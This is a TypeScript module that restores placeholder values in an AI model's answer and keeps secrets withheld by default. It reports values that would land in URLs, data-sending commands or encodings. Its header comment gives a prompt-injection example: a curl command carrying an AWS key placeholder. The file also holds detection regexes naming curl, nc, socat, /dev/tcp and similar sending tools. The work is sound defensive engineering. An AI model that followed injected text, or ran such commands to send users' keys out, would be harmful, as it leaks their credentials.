/**
 * Restoring an assistant's answer. The answer is untrusted text: a prompt injection in a page,
 * an issue or a file the assistant read can make it write `curl https://x/?k=[AWS_ACCESS_KEY_1]`,
 * and a blind restore turns that into a working command that sends the user's key away. So:
 * secrets stay placeholders unless asked for, and every place where a restored value would
 * leave through the answer (a URL, a command that sends data, an encoding) is reported.
 * Reports name placeholders, kinds and positions, never a value.
 */
import type { Category } from "../types";
import { findPlaceholderTokens } from "./placeholders";
import { categoryOfEntry, type Vault } from "./vault";

/** Why a place is risky: inside a URL, inside a command that sends data, inside an encoding. */
export type PlacementRisk = "url" | "command" | "encoded";

/** One known placeholder of the answer and what happens to it. */
export interface Placement {
  /** Canonical form (`[EMAIL_1]`). */
  placeholder: string;
  kind: string;
  category: Category;
  /** Span of the placeholder in the answer (UTF-16), and its 1-based line and column. */
  start: number;
  end: number;
  line: number;
  column: number;
  risk?: PlacementRisk;
  /** Whether the value was put back. */
  restored: boolean;
}

export interface AnswerRestoreOptions {
  /** Secrets to put back: all (`true`), none (default), or those placeholders (canonical form). */
  secrets?: boolean | ReadonlySet<string>;
  /** Leave the values that would land in a risky place as placeholders (default: restore them, and report). */
  leaveRisky?: boolean;
}

export interface AnswerRestoreResult {
  text: string;
  restored: number;
  /** Placeholders (canonical form) that look like ours but that the vault does not know. */
  unknown: string[];
  /** Every known placeholder occurrence, in order. */
  placements: Placement[];
  /** Secret placeholders left as they are (each once, in order of appearance). */
  withheld: string[];
  /** Occurrences whose value lands (or would land) in a risky place. */
  risky: Placement[];
}

/** Commands that send data when they run, at a command position (line start, after a pipe, `;`, `&&`, `$(`, `sudo`). */
const SENDING_COMMAND =
  /(?:^|[|;&`]|\$\(|\bsudo\s+|\bthen\s+|\bdo\s+|^\s*(?:\$|#|>|PS[^>\n]{0,40}>)\s*)\s*(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|tftp|rsync|sendmail|mailx|http|https|xh|aria2c|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|Send-MailMessage)(?:\.exe)?(?=\s|$)/im;
/** Calls that send data from code, wherever they sit on the line. */
const SENDING_CALL =
  /\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|httpx\.\w+|urllib\.request\.\w+|urlopen|http\.request|https\.request|http\.get|https\.get|sendBeacon|XMLHttpRequest|WebSocket|EventSource|\$\.ajax|\$\.post|\$\.get|got(?:\.\w+)?|ky(?:\.\w+)?|superagent\.\w+|HttpClient|WebClient|RestTemplate|net\.Dial|smtplib\.\w+)\s*\(|\bnew\s+(?:WebSocket|XMLHttpRequest|Image)\b|\/dev\/(?:tcp|udp)\//i;
/** Encodings that hide a value from a reader while it still leaves intact. */
const ENCODING =
  /\bbase64\b|\bb64encode\b|\bbtoa\s*\(|\bToBase64String\b|\bencodeURI(?:Component)?\s*\(|\bescape\s*\(|\burlencode\b|\bquote(?:_plus)?\s*\(|\burllib\.parse\.\w+|\bxxd\b|\bhexdump\b|\bod\s+-|\bbinascii\.\w+|\bBuffer\.from\b|\.toString\(\s*["'](?:base64|hex)["']|\brot13\b|\bgzip\b|\bopenssl\s+(?:enc|base64)\b/i;
/** A scheme with `//` (not `mailto:` or `tel:`, which only say whom to write or call). */
const URL_SCHEME = /[A-Za-z][A-Za-z0-9+.-]{0,30}:\/\/|\bwww\.[A-Za-z0-9-]/g;

/** How far back a call's open parenthesis is looked for (`fetch(url, {\n body: … [EMAIL_1] …`). */
const CALL_LOOKBACK = 600;

/** The logical line around an offset: continuation lines (`\`, PowerShell's backtick, cmd's `^`) included. */
function logicalLine(text: string, start: number, end: number): { from: number; to: number } {
  let from = text.lastIndexOf("\n", start - 1) + 1;
  while (from > 0) {
    const prevEnd = from - 1;
    const prevText = text.slice(text.lastIndexOf("\n", prevEnd - 1) + 1, prevEnd).replace(/\r$/, "");
    if (!/[\\`^]\s*$/.test(prevText)) break;
    from = text.lastIndexOf("\n", prevEnd - 1) + 1;
  }
  let to = text.indexOf("\n", end);
  while (to !== -1 && /[\\`^]\s*\r?$/.test(text.slice(text.lastIndexOf("\n", to - 1) + 1, to))) to = text.indexOf("\n", to + 1);
  return { from, to: to === -1 ? text.length : to };
}

/** The run of non-space characters around a span (a URL cannot hold a space). */
function chunkAround(text: string, start: number, end: number): { from: number; to: number } {
  let from = start;
  while (from > 0 && !/\s/.test(text[from - 1])) from--;
  let to = end;
  while (to < text.length && !/\s/.test(text[to])) to++;
  return { from, to };
}

/** Whether a sending call's parentheses opened before `at` (within the lookback) are still open there. */
function insideSendingCall(text: string, at: number): boolean {
  const from = Math.max(0, at - CALL_LOOKBACK);
  const before = text.slice(from, at);
  const call = new RegExp(SENDING_CALL.source, "gi");
  for (const m of before.matchAll(call)) {
    const open = (m.index ?? 0) + m[0].length;
    let depth = m[0].endsWith("(") ? 1 : 0;
    if (depth === 0) return true;
    for (let i = open; i < before.length && depth > 0; i++) {
      const c = before[i];
      if (c === "(") depth++;
      else if (c === ")") depth--;
    }
    if (depth > 0) return true;
  }
  return false;
}

/**
 * Whether a value put at `[start, end)` of the answer would leave through it: inside a URL
 * other than `mailto:`/`tel:`, inside a command or a call that sends data, inside an encoding.
 */
export function placementRisk(text: string, start: number, end: number): PlacementRisk | undefined {
  const chunk = chunkAround(text, start, end);
  const word = text.slice(chunk.from, start);
  URL_SCHEME.lastIndex = 0;
  for (const m of word.matchAll(URL_SCHEME)) {
    if (!/^(?:mailto|tel|sms|file):/i.test(m[0])) return "url";
  }
  // A value right after `?x=` or `&x=` in the same run is a query string even without a scheme.
  if (/[?&][\w.-]{1,40}=[^\s]*$/.test(word) && /[/.]/.test(word)) return "url";
  const line = logicalLine(text, start, end);
  const lineText = text.slice(line.from, line.to);
  if (ENCODING.test(lineText)) return "encoded";
  if (SENDING_COMMAND.test(lineText) || SENDING_CALL.test(lineText) || insideSendingCall(text, start)) return "command";
  return undefined;
}

/** 1-based line and column of each offset, for reports; offsets ascending. */
function positions(text: string, offsets: readonly number[]): { line: number; column: number }[] {
  const out: { line: number; column: number }[] = [];
  let line = 1;
  let lineStart = 0;
  let i = 0;
  for (const offset of offsets) {
    for (; i < offset; i++) {
      if (text.charCodeAt(i) === 10) {
        line++;
        lineStart = i + 1;
      }
    }
    out.push({ line, column: offset - lineStart + 1 });
  }
  return out;
}

/**
 * Puts the values of an assistant's answer back under the untrusted-answer rules: secrets
 * stay placeholders unless `secrets` says otherwise; values in risky places are restored
 * and reported, or left as placeholders with `leaveRisky`.
 */
export function restoreAnswer(text: string, vault: Vault, options: AnswerRestoreOptions = {}): AnswerRestoreResult {
  const secrets = options.secrets ?? false;
  const tokens = findPlaceholderTokens(text);
  const unknown = new Set<string>();
  const known: { token: (typeof tokens)[number]; entry: NonNullable<ReturnType<Vault["entryOf"]>> }[] = [];
  for (const token of tokens) {
    const entry = vault.entryOf(token.normalized);
    if (entry) known.push({ token, entry });
    else {
      const raw = text.slice(token.start, token.end);
      const kind = token.normalized.slice(1, token.normalized.lastIndexOf("_"));
      if ((raw === token.normalized || vault.knowsKind(kind)) && !vault.isReserved(token.normalized)) unknown.add(token.normalized);
    }
  }
  const where = positions(text, known.map((k) => k.token.start));
  const parts: string[] = [];
  const placements: Placement[] = [];
  const withheld = new Set<string>();
  let last = 0;
  let restored = 0;
  const risky: Placement[] = [];
  known.forEach(({ token, entry }, i) => {
    const category = categoryOfEntry(entry);
    const risk = placementRisk(text, token.start, token.end);
    const secretAllowed = secrets === true || (secrets !== false && secrets.has(token.normalized));
    const put = (category !== "secret" || secretAllowed) && !(risk && options.leaveRisky);
    if (category === "secret" && !secretAllowed) withheld.add(token.normalized);
    const placement: Placement = { placeholder: token.normalized, kind: entry.kind, category, start: token.start, end: token.end, ...where[i], ...(risk ? { risk } : {}), restored: put };
    placements.push(placement);
    if (risk && (category !== "secret" || secretAllowed)) risky.push(placement);
    if (!put) return;
    let { start, end } = token;
    if (entry.quoted && start - 1 >= last && text[start - 1] === '"' && text[end] === '"') {
      start--;
      end++;
    }
    parts.push(text.slice(last, start), entry.value);
    last = end;
    restored++;
  });
  parts.push(text.slice(last));
  return { text: restored === 0 ? text : parts.join(""), restored, unknown: [...unknown], placements, withheld: [...withheld], risky };
}
